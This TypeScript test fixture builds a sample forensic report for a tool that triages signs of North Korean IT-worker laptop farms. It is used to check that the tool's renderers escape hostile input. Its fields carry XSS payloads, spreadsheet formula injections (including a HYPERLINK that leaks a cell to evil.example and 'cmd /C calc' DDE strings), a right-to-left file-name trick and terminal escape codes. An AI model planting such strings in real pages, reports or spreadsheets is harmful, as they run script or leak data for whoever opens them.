// A realistic two-case report (AnyDesk incoming sessions, Payoneer visits, an Astrill VPN install,
// a shared remote IP) with hostile strings wherever evidence text can appear. The payloads that
// could run set `document.title`/`data-pwned` or fetch from `http://127.0.0.1:<port>/`, so the
// browser test can see whether anything ran or left the page.
import type {CaseReport, Report, TimelineEvent} from '../../src/lib/model.js'

export const LONG = 'A'.repeat(39_990) + 'END-OF-LONG'
export const RLO = 'invoice\u202Egpj.exe'
export const TERM = '\u001b[31mRED\u001b[0m\u001b]0;owned\u0007'
export const NUL = 'nul\u0000byte'

export function hostile(port = 9) {
  const base = `http://127.0.0.1:${port}`
  return {
    script: `<script>document.title='PWNED';window.__pwned=1</script>`,
    img: `<img src=${base}/img onerror="document.body.setAttribute('data-pwned','img')">`,
    imgX: '<img src=x onerror=alert(1)>',
    jsUrl: 'javascript:alert(1)',
    style: `</style><style>body{background:url(${base}/css)}</style>`,
    textarea: '</textarea><svg onload="document.title=\'PWNED\'">',
    scriptClose: `</script><script src="${base}/js"></script>`,
    iframe: `<iframe src="${base}/frame"></iframe>`,
    pipeNl: 'col|with|pipes\nand a second line\r\nand a third',
    hyperlink: '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    plusCmd: "+cmd|' /C calc'!A0",
    minus: '-2+3',
    atSum: "@SUM(1+1)*cmd|' /C calc'!A0",
    tabLead: '\t=1+1',
    crLead: '\r=1+1',
    md: '# heading *bold* _it_ `code` [link](http://evil.example) ![x](http://evil.example/x.png) ~~s~~ $x$ \\',
    base,
  }
}

function event(id: string, over: Partial<TimelineEvent> & Pick<TimelineEvent, 'type' | 'message'>): TimelineEvent {
  return {
    id, time: null, timeBasis: 'utc', timestampDesc: 'Event time', artifact: 'C/Users/bob/AppData/Roaming/AnyDesk/ad.trace',
    location: 'line 1', fields: {}, indicators: [], ...over,
  }
}

export function buildReport(port = 9, opts: {generatedAt?: string | null} = {}): Report {
  const h = hostile(port)
  const trace = 'C/Users/bob/AppData/Roaming/AnyDesk/ad.trace'
  const history = 'C/Users/bob/AppData/Local/Google/Chrome/User Data/Default/History'
  const c1events: TimelineEvent[] = [
    event('c1-0001', {
      time: '2024-03-01T00:00:00.000000Z', timeBasis: 'assumed-utc', timePrecision: 'day', type: 'program.installed',
      timestampDesc: 'Install date', artifact: 'C/Windows/System32/config/SOFTWARE', location: 'key Astrill VPN',
      message: 'Installed: Astrill VPN 3.9.0 (Astrill Systems Corp)', indicators: ['VPN-01'],
      fields: {program: 'Astrill VPN', publisher: 'Astrill Systems Corp', version: '3.9.0', install_location: h.style},
    }),
    event('c1-0002', {
      time: '2024-03-04T02:13:45.123000Z', type: 'remote_access.session_start', timestampDesc: 'Session start', artifact: trace,
      location: 'line 812', message: `Incoming AnyDesk session from 123456789 (${h.script})`, indicators: ['RA-01'],
      fields: {tool: 'AnyDesk', direction: 'incoming', remote_id: '123456789', remote_ip: '203.0.113.7', remote_alias: h.hyperlink, user: 'bob', end_time: '2024-03-04T07:40:02.000000Z'},
      raw: `   info 2024-03-04 02:13:45.123  back  1234  5678  1 anynet.relay_conn - Incoming session request: ${h.img}`,
    }),
    event('c1-0003', {
      time: '2024-03-04T02:20:11.000000Z', type: 'browser.visit', timestampDesc: 'Visit time', artifact: history, location: 'row 41',
      message: `Visited https://www.payoneer.com/login (${h.script})`, indicators: ['PAY-01'],
      fields: {url: 'https://www.payoneer.com/login?next=/withdraw', title: h.script, user: 'bob'},
    }),
    event('c1-0004', {
      time: '2024-03-04T02:21:00.000000Z', type: 'browser.visit', timestampDesc: 'Visit time', artifact: history, location: 'row 42',
      message: `Visited ${h.jsUrl} ${h.imgX}`, indicators: ['PAY-01'],
      fields: {url: h.jsUrl, title: h.imgX, user: 'bob'},
    }),
    event('c1-0005', {
      time: '2024-03-04T02:25:30.500000Z', type: 'browser.download', timestampDesc: 'Download start', artifact: history, location: 'row 7',
      message: `Downloaded https://drive.google.com/uc?id=1x&export=download to ${RLO}`,
      fields: {url: 'https://drive.google.com/uc?id=1x&export=download', target_path: `C:\\Users\\bob\\Downloads\\${RLO}`, note: h.textarea},
    }),
    event('c1-0006', {
      time: '2024-03-04T03:00:00.000000Z', type: 'remote_access.file_transfer', timestampDesc: 'Transfer', artifact: trace, location: 'line 900',
      message: `File transfer ${h.pipeNl}`, indicators: ['RA-01'],
      fields: {tool: 'AnyDesk', file: h.plusCmd, size_note: h.minus, label: h.atSum, tab: h.tabLead, cr: h.crLead, bytes: -5},
      raw: `transfer ${TERM} ${NUL}`,
    }),
    event('c1-0007', {
      time: '2024-03-04T07:40:02.000000Z', type: 'remote_access.session_end', timestampDesc: 'Session end', artifact: trace, location: 'line 1500',
      message: `Session closed ${h.scriptClose} ${h.iframe}`, fields: {tool: 'AnyDesk', md: h.md},
    }),
    event('c1-0008', {
      time: '2024-03-05T10:00:00.000000Z', type: 'browser.visit', timestampDesc: 'Visit time', artifact: history, location: 'row 43',
      message: 'Visited https://example.com/', fields: {url: 'https://example.com/', title: 'Example Domain'},
    }),
    event('c1-0009', {
      time: null, timeBasis: 'unknown', type: 'remote_access.config', timestampDesc: 'Configuration', artifact: 'C/Users/bob/AppData/Roaming/AnyDesk/user.conf',
      location: 'line 3', message: `ad.roster.entry=${LONG}`, fields: {value: LONG}, raw: LONG,
    }),
  ]
  const c1: CaseReport = {
    id: 'laptop-farm-01',
    evidence: `/evidence/laptop-farm-01 ${h.imgX}`,
    artifacts: [
      {path: trace, logicalPath: 'C:/Users/bob/AppData/Roaming/AnyDesk/ad.trace', kind: 'anydesk.trace', sha256: 'a'.repeat(64), size: 18_432, status: 'parsed', events: 4, warnings: []},
      {path: history, logicalPath: 'C:/Users/bob/AppData/Local/Google/Chrome/User Data/Default/History', kind: 'chromium.history', sha256: 'b'.repeat(64), size: 163_840, status: 'partial', events: 4, warnings: [`row 44: unreadable url ${h.script}`]},
      {path: 'C/Windows/System32/config/SOFTWARE', logicalPath: 'C:/Windows/System32/config/SOFTWARE', kind: 'programs.uninstall_reg', sha256: 'c'.repeat(64), size: 1_048_576, status: 'parsed', events: 1, warnings: []},
      {path: `odd/${h.imgX}.txt`, logicalPath: `odd/${h.imgX}.txt`, kind: 'anydesk.conf', sha256: 'd'.repeat(64), size: 12, status: 'failed', events: 0, warnings: [`line 1: ${TERM}`]},
    ],
    events: c1events,
    findings: [
      {
        indicator: 'PAY-01', title: `Payment platform used by IT workers ${h.script}`, category: 'payment', severity: 'medium',
        events: ['c1-0003', 'c1-0004'], first: '2024-03-04T02:20:11.000000Z', last: '2024-03-04T02:21:00.000000Z', weight: 3,
        falsePositives: 'Legitimate freelancers use Payoneer.',
        sources: [{publisher: 'FBI', title: `North Korean IT workers ${h.imgX}`, url: 'https://www.ic3.gov/PSA/2024/PSA240516', grade: 'A'}],
        evidence: [{event: 'c1-0003', field: 'url', value: 'https://www.payoneer.com/login?next=/withdraw'}],
      },
      {
        indicator: 'RA-01', title: 'Incoming remote-access sessions (AnyDesk)', category: 'remote-access', severity: 'high',
        events: ['c1-0002', 'c1-0006'], first: '2024-03-04T02:13:45.123000Z', last: '2024-03-04T03:00:00.000000Z', weight: 6,
        description: `Laptop-farm pattern ${h.textarea}`,
        sources: [{publisher: 'Secureworks', title: 'NICKEL TAPESTRY', url: 'https://www.secureworks.com/blog/fraudulent-north-korean-it-workers'},
          {publisher: h.img, title: h.pipeNl, url: h.jsUrl}],
        evidence: [{event: 'c1-0002', field: 'remote_ip', value: '203.0.113.7'}],
      },
      {
        indicator: 'VPN-01', title: 'Astrill VPN installed', category: 'vpn-proxy', severity: 'medium',
        events: ['c1-0001'], first: '2024-03-01T00:00:00.000000Z', last: '2024-03-01T00:00:00.000000Z', weight: 4,
      },
    ],
    assessment: {
      score: 82, level: 'high', categories: ['payment', 'remote-access', 'vpn-proxy'],
      reasons: ['Incoming AnyDesk sessions combined with Astrill VPN and Payoneer use', `Shared remote IP with another case ${h.script}`],
    },
    warnings: [`archive member name not UTF-8: ${NUL} ${RLO}`],
    activity: {
      zone: 'America/New_York',
      histogram: Array.from({length: 7}, (_, d) => Array.from({length: 24}, (_, hr) => (d >= 1 && d <= 5 && (hr >= 21 || hr < 4) ? d + hr % 5 : 0))),
      total: 120, days: 5, nightShare: 0.875, bestFitUtcOffset: 9, sufficient: true,
    },
    suppressions: [{indicator: 'RA-02', title: 'TeamViewer', events: 2, reason: `IT helpdesk ${h.imgX}`, origin: 'allow.yaml:3'}],
  }
  const c2: CaseReport = {
    id: 'laptop-farm-02',
    evidence: '/evidence/laptop-farm-02.zip',
    artifacts: [{path: 'laptop-farm-02.zip!C/ProgramData/AnyDesk/connection_trace.txt', logicalPath: 'C:/ProgramData/AnyDesk/connection_trace.txt', kind: 'anydesk.connection_trace', sha256: 'e'.repeat(64), size: 2_048, status: 'parsed', events: 1, warnings: []}],
    events: [
      event('c2-0001', {
        time: '2024-03-06T01:02:03.000000Z', type: 'remote_access.session_start', timestampDesc: 'Session start', artifact: 'laptop-farm-02.zip!C/ProgramData/AnyDesk/connection_trace.txt',
        location: 'line 2', message: 'Incoming AnyDesk session from 987654321', indicators: ['RA-01'],
        fields: {tool: 'AnyDesk', direction: 'incoming', remote_id: '987654321', remote_ip: '203.0.113.7'},
      }),
    ],
    findings: [{indicator: 'RA-01', title: 'Incoming remote-access sessions (AnyDesk)', category: 'remote-access', severity: 'high', events: ['c2-0001'], first: '2024-03-06T01:02:03.000000Z', last: '2024-03-06T01:02:03.000000Z'}],
    assessment: {score: 35, level: 'low', categories: ['remote-access'], reasons: ['Incoming AnyDesk session only']},
    warnings: [],
  }
  const report: Report = {
    schema: 'dprk-triage/report@1',
    generator: {name: 'dprk-triage', version: '0.1.0'},
    command: `dprk-triage scan /evidence/laptop-farm-01 /evidence/laptop-farm-02.zip --claimed-tz America/New_York --out "${h.script}.html"`,
    method: {
      indicatorPack: {id: 'dprk-itw', version: '2024.06', indicators: 42, loaded: ['builtin:dprk-itw.yaml']},
      claimedTz: 'America/New_York',
      parsers: [
        {kind: 'anydesk.trace', title: 'AnyDesk trace log'},
        {kind: 'anydesk.connection_trace', title: 'AnyDesk connection_trace.txt'},
        {kind: 'anydesk.conf', title: 'AnyDesk configuration'},
        {kind: 'chromium.history', title: 'Chromium history'},
        {kind: 'firefox.places', title: 'Firefox places.sqlite'},
        {kind: 'programs.uninstall_reg', title: 'Installed programs (Uninstall keys)'},
        {kind: 'teamviewer.connections_incoming', title: 'TeamViewer Connections_incoming.txt'},
      ],
    },
    cases: [c1, c2],
    links: [{type: 'ip', value: '203.0.113.7', cases: ['laptop-farm-01', 'laptop-farm-02'], events: ['c1-0002', 'c2-0001']}],
  }
  if (opts.generatedAt !== null) report.generatedAt = opts.generatedAt ?? '2024-06-01T12:00:00.000000Z'
  return report
}

/** Collects what a writer streams into one string. */
export async function render(write: (r: Report, out: import('node:stream').Writable) => Promise<unknown>, r: Report): Promise<string> {
  const {PassThrough} = await import('node:stream')
  const out = new PassThrough()
  const parts: Buffer[] = []
  out.on('data', (b: Buffer) => parts.push(b))
  await write(r, out)
  out.end()
  return Buffer.concat(parts).toString('utf8')
}
